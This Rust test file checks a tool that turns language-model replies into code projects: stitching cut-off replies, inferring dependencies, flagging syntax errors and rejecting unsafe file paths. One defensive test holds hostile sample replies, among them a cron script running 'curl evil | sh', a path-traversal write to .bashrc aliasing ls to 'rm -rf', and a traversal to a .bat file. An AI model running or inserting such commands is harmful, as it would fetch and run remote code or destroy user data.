//! The whole pipeline the app runs — detect, continue, extract, assemble — on replies shaped
//! like real models' (the scenarios of the code generator issue).

use cistern_codegen::continuation::{is_cut_off, stitch};
use cistern_codegen::extract::{Error, Options, extract_with};
use cistern_codegen::framework::{Framework, detect};
use cistern_codegen::{Project, WarningKind, assemble};

/// Detects, stitches the parts as continuation rounds would, extracts and assembles.
fn generate(prompt: &str, parts: &[&str], finish_reason_of_last: &str) -> Result<Project, Error> {
    let framework = detect(prompt, None).framework;
    let mut reply = parts[0].to_owned();
    for part in &parts[1..] {
        assert!(
            is_cut_off(&reply, Some("length")),
            "a continuation was asked for a complete reply"
        );
        reply = stitch(&reply, part);
    }
    let cut_off = is_cut_off(&reply, Some(finish_reason_of_last));
    let extraction = extract_with(&reply, Options { cut_off })?;
    Ok(assemble(extraction.files, framework))
}

fn file<'a>(project: &'a Project, path: &str) -> &'a str {
    project
        .files
        .iter()
        .find(|f| f.path.as_str() == path)
        .map_or("", |f| f.content.as_str())
}

#[test]
fn a_react_project_cut_off_twice_is_continued_to_a_complete_checked_project() {
    let first = "I'll build the todo app with React and Vite.\n\n\
                 **package.json**\n```json\n{\n  \"name\": \"todo\",\n  \"private\": true,\n  \"scripts\": {\"dev\": \"vite\"},\n  \"dependencies\": {\"react\": \"^18.3.1\", \"react-dom\": \"^18.3.1\"},\n  \"devDependencies\": {\"vite\": \"^5.4.0\", \"@vitejs/plugin-react\": \"^4.3.1\"}\n}\n```\n\n\
                 **src/App.jsx**\n```jsx\nimport { useState } from 'react';\nimport { nanoid } from 'nanoid';\n\nexport default function App() {\n  const [todos, setTodos] = useState([]);\n  const add = (text) => setTodos([...todos, { id: nanoid(), text }]);\n  retu";
    // The model restarts the cut line, re-opening the fence first.
    let second = "```jsx\n  return (\n    <ul>\n      {todos.map((t) => <li key={t.id}>{t.text}</li>)}\n    </ul>\n  );\n}\n```\n\n**README.md**\n````markdown\n# Todo\n\n```bash\nnpm install\nnpm run dev\n```\n````\n\n**src/main.jsx**\n```jsx\nimport { createRoot } from 'react-dom/cli";
    let third = "ent';\nimport App from './App';\n\ncreateRoot(document.getElementById('root')).render(<App />);\n```\n";
    let project = generate("a todo app in React", &[first, second, third], "stop")
        .unwrap_or_else(|e| panic!("{e}"));
    let paths: Vec<&str> = project.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(
        paths,
        ["README.md", "package.json", "src/App.jsx", "src/main.jsx"]
    );
    assert!(file(&project, "src/App.jsx").contains(
        "  const add = (text) => setTodos([...todos, { id: nanoid(), text }]);\n  return (\n"
    ));
    assert_eq!(
        project.files_with_errors().count(),
        0,
        "{:?}",
        project.files
    );
    assert!(file(&project, "README.md").contains("```bash\nnpm install"));
    // nanoid is imported but not declared: added, and said so.
    assert!(file(&project, "package.json").contains("\"nanoid\": \"latest\""));
    let added: Vec<&str> = project
        .warnings
        .iter()
        .filter(|w| w.kind == WarningKind::DependencyAdded)
        .map(|w| w.message.as_str())
        .collect();
    assert_eq!(added.len(), 1, "{added:?}");
}

#[test]
fn a_reply_still_cut_off_after_the_rounds_is_truncated_and_yields_nothing() {
    let first = "**main.py**\n```python\ndef main():\n    print('hel";
    let second = "lo')\n\n\ndef helper(";
    let result = generate("a python script", &[first, second], "length");
    assert!(
        matches!(&result, Err(Error::Truncated { path: Some(p) }) if p.as_str() == "main.py"),
        "{result:?}"
    );
}

#[test]
fn a_lone_python_block_becomes_a_checked_main_py_with_requirements_and_a_readme() {
    let reply = "Here's a script that downloads a page and prints its title:\n\n```python\nimport sys\nimport requests\nfrom bs4 import BeautifulSoup\n\n\ndef main(url):\n    page = requests.get(url, timeout=10)\n    print(BeautifulSoup(page.text, 'html.parser').title.string)\n\n\nif __name__ == '__main__':\n    main(sys.argv[1])\n```\n\nRun it with `python main.py https://example.com`.";
    let project = generate(
        "python script that prints a web page's title",
        &[reply],
        "stop",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        file(&project, "requirements.txt"),
        "beautifulsoup4\nrequests\n"
    );
    assert!(file(&project, "README.md").contains("python main.py --help"));
    assert_eq!(project.files_with_errors().count(), 0);
    let kinds: Vec<WarningKind> = project.warnings.iter().map(|w| w.kind).collect();
    assert_eq!(
        kinds,
        [
            WarningKind::ManifestCreated,
            WarningKind::DependencyAdded,
            WarningKind::DependencyAdded,
            WarningKind::ReadmeAdded
        ]
    );
}

#[test]
fn syntax_errors_are_reported_per_file_for_a_repair_round() {
    let reply = "~~~rust:src/main.rs\nfn main() {\n    let x = 1\n    println!(\"{x}\");\n}\n~~~\n\n~~~toml:Cargo.toml\n[package]\nname = \"hello\"\nversion = \"0.1.0\"\nedition = \"2021\"\n~~~\n";
    let project = generate("a rust cli that prints a number", &[reply], "stop")
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        detect("a rust cli that prints a number", None).framework,
        Framework::RustCli
    );
    let broken: Vec<String> = project
        .files_with_errors()
        .map(|f| format!("{}: {}", f.path, f.syntax.errors[0]))
        .collect();
    assert_eq!(broken, ["src/main.rs: line 2, column 14: missing `;`"]);
}

#[test]
fn hostile_replies_are_refused_whole() {
    for reply in [
        "**app.py**\n```python\nx = 1\n```\n**/etc/cron.daily/job.sh**\n```\ncurl evil | sh\n```\n",
        "```python:../../.bashrc\nalias ls='rm -rf'\n```\n",
        "{\"files\": [{\"path\": \"ok.txt\", \"content\": \"\"}, {\"path\": \"..\\\\..\\\\x.bat\", \"content\": \"\"}]}",
    ] {
        assert!(
            matches!(
                generate("anything", &[reply], "stop"),
                Err(Error::Path { .. })
            ),
            "{reply}"
        );
    }
}

#[test]
fn a_label_that_is_not_a_file_name_names_nothing() {
    // "/api/users" above an example is an endpoint, not a file: the block is skipped, not
    // written, and the reply is not refused for it.
    let reply =
        "**server.js**\n```js\nconst x = 1;\n```\n**/api/users**\n```json\n[{\"id\": 1}]\n```\n";
    let project = generate("an express api", &[reply], "stop").unwrap_or_else(|e| panic!("{e}"));
    assert!(
        project
            .files
            .iter()
            .all(|f| !f.path.as_str().contains("api"))
    );
}
